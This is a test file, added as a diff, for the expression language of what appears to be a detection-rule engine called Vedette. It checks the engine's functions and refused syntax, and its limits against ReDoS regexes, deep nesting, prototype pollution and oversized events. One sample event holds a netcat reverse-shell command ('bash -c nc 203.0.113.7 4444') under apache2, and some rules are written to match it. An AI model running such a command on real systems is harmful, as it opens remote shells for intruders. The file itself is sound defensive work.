@@ -1,0 +1,219 @@
+// Expressions: Vedette's own functions, what is refused and where, and bounds against hostile events and hostile expressions.
+import { describe, expect, it } from 'vitest';
+import type { EventDocument } from '../../event/document.ts';
+import { compilePredicate } from '../../rules/expression/compile.ts';
+import {
+  DEFAULT_OPERATORS_MAX,
+  EXPRESSION_DEPTH_MAX,
+  EXPRESSION_LENGTH_MAX,
+  parseExpression,
+} from '../../rules/expression/parse.ts';
+import { ExpressionError } from '../../rules/rule.ts';
+import { LISTS } from './random-expressions.ts';
+
+function matches(source: string, event: EventDocument, options: { nowMs?: number; fuel?: number } = {}): boolean {
+  const parsed = parseExpression(source, LISTS);
+  if (parsed.kind === 'refused') throw new Error(JSON.stringify(parsed.problems));
+  return compilePredicate(parsed.expression, options.fuel)(event, options.nowMs ?? 0);
+}
+
+function problems(source: string): readonly string[] {
+  const parsed = parseExpression(source, LISTS);
+  return parsed.kind === 'refused' ? parsed.problems.map(({ at, message }) => `${at}: ${message}`) : [];
+}
+
+const EVENT: EventDocument = {
+  event: { type: ['start'], action: 'executed' },
+  process: {
+    name: 'bash',
+    pid: 42,
+    args: ['bash', '-c', 'nc 203.0.113.7 4444'],
+    executable: '/usr/bin/bash',
+    parent: { name: 'apache2' },
+    ancestors: [{ name: 'apache2' }, { name: 'systemd' }],
+  },
+  source: { ip: '::ffff:10.1.2.3' },
+  host: { ip: ['192.168.1.5', 'fe80::1'] },
+  user: { id: '0' },
+  auditd: {
+    paths: [
+      { name: '/etc/a', nametype: 'PARENT' },
+      { name: '/etc/b', nametype: 'CREATE' },
+    ],
+  },
+  empty: { text: '', list: [], nothing: null },
+};
+
+describe('functions of our own', () => {
+  it.each([
+    ['$cidr(source.ip, "10.0.0.0/8")', true],
+    ['$cidr(source.ip, "192.168.0.0/16")', false],
+    ['$cidr(host.ip, "10.0.0.0/8", "192.168.0.0/16")', true],
+    ['$cidr(host.ip, "fe80::/10")', true],
+    ['$cidr(host.ip, "2001:db8::/32")', false],
+    ['$cidr(process.name, "0.0.0.0/0")', false],
+    ['$cidr(missing, "0.0.0.0/0")', false],
+    ['$glob(process.executable, "/usr/*/bash")', true],
+    ['$glob(process.executable, "/usr/*/ba?h")', true],
+    ['$glob(process.executable, "bash")', false],
+    ['$glob(process.executable, "/usr/bin/ba[s]h")', false],
+    ['$glob(process.args, "nc *")', true],
+    ['$glob("a*b", "a\\\\*b")', true],
+    ['$glob("axb", "a\\\\*b")', false],
+    ['$glob("a\nb", "a*b")', true],
+    ['$matches(process.args, /nc [0-9.]+ 4444/)', true],
+    ['$matches(process.args, "^-c$")', true],
+    ['$matches(process.args, /^-C$/)', false],
+    ['$matches(process.args, /^-C$/i)', true],
+    ['$matches(missing, /./)', false],
+    ['$basename(process.executable) = "bash"', true],
+    ['"b" in $basename(auditd.paths.name)', true],
+    ['$basename(missing) = ""', false],
+    ['$descends_from(process, "systemd")', true],
+    ['$descends_from(process, ["x", "apache2"])', true],
+    ['$descends_from(process, $shells)', false],
+    ['$descends_from(missing, "systemd")', false],
+    ['$has(process.name)', true],
+    ['$has(empty.text) or $has(empty.list) or $has(empty.nothing) or $has(missing)', false],
+    ['$is(process.name, "BASH")', true],
+    ['$is(event.type, "Start", "end")', true],
+    ['$is(user.id, 0)', true],
+    ['$is(process.pid, "42")', true],
+    ['$is(process.name, $shells)', true],
+    ['$is(missing, "")', false],
+    ['$startswith(process.executable, "/opt/", "/usr/")', true],
+    ['$startswith(process.executable, $shells)', false],
+    ['$endswith(process.args, "4444")', true],
+    ['$entropy("aaaa") = 0 and $entropy("abcd") = 2', true],
+    ['$entropy(missing) > 0', false],
+    ['$base64decode("YmFzaA==") = process.name', true],
+    ['auditd.paths[nametype="CREATE"].name = "/etc/b"', true],
+    ['auditd.paths[nametype="DELETE"].name = "/etc/b"', false],
+    ['$now() = "1970-01-01T00:00:01.000Z" and $millis() = 1000', true],
+  ])('%s is %s', (source, expected) => {
+    expect(matches(source, EVENT, { nowMs: 1_000 })).toBe(expected);
+  });
+});
+
+describe('what is refused', () => {
+  it.each([
+    ['process.*', '8: the wildcard `*` is not supported by this version'],
+    ['**.name', '1: the descendant wildcard `**` is not supported by this version'],
+    ['a ~> $count', '2: chaining `~>` is not supported by this version'],
+    ['($x := 1; $x)', '4: assignment `:=` is not supported by this version'],
+    ['function($x){$x}', '8: a function of one’s own is not supported by this version'],
+    ['a^(b)', '1: ordering `^(…)` is not supported by this version'],
+    ['a{"k": b}', '0: grouping with `{…}` is not supported by this version'],
+    ['{"k": b} = c', '0: an object constructor `{…}` is not supported by this version'],
+    ['a[]', '0: keeping an array with `[]` is not supported by this version'],
+    ['a.b.%', '0: the parent operator `%` is not supported by this version'],
+    ['[1..3]', '2: the operator `..` is not supported by this version'],
+    ['a@$x.b', '0: binding with `@` is not supported by this version'],
+    ['$map(a, b)', '0: the function $map is not known to this version'],
+    ['$eval("1")', '0: the function $eval is not known to this version'],
+    ['$random() > 0', '0: the function $random is not known to this version'],
+    ['$shels = 1', '0: unknown list $shels'],
+    ['$contains', '0: the function $contains is used without a call'],
+    ['contains(a, "b")', '8: `contains` is called without its $'],
+    ['a = /x/', '4: a regular expression cannot stand alone'],
+    ['$matches(a, /(?=x)/)', '12: look-ahead and look-behind are not supported'],
+    ['$matches(a, /(a)\\1/)', '12: back-references are not supported'],
+    ['$lowercase(a, b)', '0: $lowercase takes 0 to 1 arguments, not 2'],
+    ['$cidr(a, "10.0.0.0/33")', '9: `10.0.0.0/33` is not a network'],
+    ['$is(a, b)', '7: argument 2 of $is must be written out or a list'],
+  ])('%s', (source, expected) => {
+    expect(problems(source).map((problem) => problem.slice(problem.indexOf(':')))).toContain(
+      expected.slice(expected.indexOf(':')),
+    );
+    const place = Number.parseInt(problems(source)[0] ?? '', 10);
+    expect(Math.abs(place - Number.parseInt(expected, 10)), `${source}: at ${place}`).toBeLessThanOrEqual(1);
+  });
+
+  it('tells every problem of an expression at once', () => {
+    expect(problems('a.* = 1 and $shels = 2 and $foo(b)')).toHaveLength(3);
+  });
+
+  it.each(['process.name = ', 'a b', '"open', '(a', 'a = /(/', '`a', '', '   ', '$contains(a, /[/)'])(
+    'a syntax error has a place: %j',
+    (source) => {
+      const parsed = parseExpression(source, LISTS);
+      expect(parsed.kind).toBe('refused');
+      if (parsed.kind !== 'refused') return;
+      expect(parsed.problems[0]?.at).toBeLessThanOrEqual(Math.max(0, source.length));
+      expect(parsed.problems[0]?.message).not.toBe('');
+    },
+  );
+});
+
+describe('hostile expressions', () => {
+  it('refuses one that is too long', () => {
+    expect(problems(`a = "${'x'.repeat(EXPRESSION_LENGTH_MAX)}"`)[0]).toMatch(/longer than/);
+  });
+
+  it('refuses deep nesting, whatever it is made of', () => {
+    for (const depth of [EXPRESSION_DEPTH_MAX + 1, 2_000]) {
+      expect(problems(`${'('.repeat(depth)}a${')'.repeat(depth)}`)[0]).toMatch(/nested too deeply/);
+      expect(problems(`${'$not('.repeat(depth)}a${')'.repeat(depth)}`)[0]).toMatch(/nested too deeply/);
+      expect(problems(`${'a[b = '.repeat(depth)}1${']'.repeat(depth)}`)[0]).toMatch(/nested too deeply/);
+    }
+  });
+
+  it('refuses defaults that would double the tree at each level', () => {
+    const levels = DEFAULT_OPERATORS_MAX + 1;
+    expect(problems(`${'('.repeat(levels)}a${'?:b)'.repeat(levels)}`)[0]).toMatch(/uses of \?: or \?\?/);
+    expect(problems(`$matches(a, /${'(?:x)'.repeat(levels)}/)`)).toEqual([]);
+  });
+
+  it('answers on a regular expression that would run for ever elsewhere', () => {
+    const evil = { process: { name: `${'a'.repeat(50_000)}!` } };
+    expect(matches('$matches(process.name, /^(a+)+$/)', evil)).toBe(false);
+    expect(matches('$contains(process.name, /^(a|a)*$/)', evil)).toBe(false);
+  });
+});
+
+describe('hostile events', () => {
+  it('sees no inherited names', () => {
+    for (const name of ['constructor', '`__proto__`', 'toString', 'hasOwnProperty', 'process.constructor.name']) {
+      expect(matches(`$exists(${name})`, { process: {} }), name).toBe(false);
+    }
+    const own = JSON.parse('{"__proto__": {"polluted": "yes"}}') as EventDocument;
+    expect(matches('`__proto__`.polluted = "yes"', own)).toBe(true);
+    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
+  });
+
+  it('takes names that the official engine uses for itself as ordinary fields', () => {
+    expect(matches('a.b = 1', { a: { b: 1, _jsonata_function: true, sequence: true } })).toBe(true);
+  });
+
+  it('runs out of fuel on a huge event, and says so', () => {
+    const huge = { process: { args: Array.from({ length: 10_000 }, (_, index) => String(index)) } };
+    expect(() => matches('$count(process.args[$ = "x"]) = 0', huge, { fuel: 5_000 })).toThrow(
+      expect.objectContaining({ code: 'fuel' }),
+    );
+    expect(matches('$count(process.args[$ = "x"]) = 0', huge)).toBe(true);
+  });
+
+  it('has fuel for an exec with two mebibytes of arguments', () => {
+    const event = { process: { name: 'bash', args: ['x'.repeat(1024 * 1024), `${'y'.repeat(1024 * 1024)}evil`] } };
+    expect(matches('$matches(process.args, /evil$/) and $matches(process.args, /^x.*x$/)', event)).toBe(true);
+  });
+
+  it('fails with a code, and not otherwise, on an event that is nested too deeply', () => {
+    let deep: unknown = 'x';
+    for (let level = 0; level < 50_000; level += 1) deep = [deep];
+    for (const source of ['a', 'a = a2', '$string(a) = "x"', '$is(a, "x")', 'a.b = "x"']) {
+      try {
+        matches(source, { a: deep, a2: structuredClone(1) });
+      } catch (error) {
+        expect(error, source).toBeInstanceOf(ExpressionError);
+      }
+    }
+    expect(() => matches('$is(a, "x")', { a: deep })).toThrow(expect.objectContaining({ code: 'depth' }));
+  });
+
+  it('names the code of the official error', () => {
+    expect(() => matches('process.pid > "5"', EVENT)).toThrow(expect.objectContaining({ code: 'T2009' }));
+    expect(() => matches('$contains(process.args, "x")', EVENT)).toThrow(expect.objectContaining({ code: 'T0410' }));
+    expect(() => matches('event > 1', EVENT)).toThrow(expect.objectContaining({ code: 'T2010' }));
+  });
+});
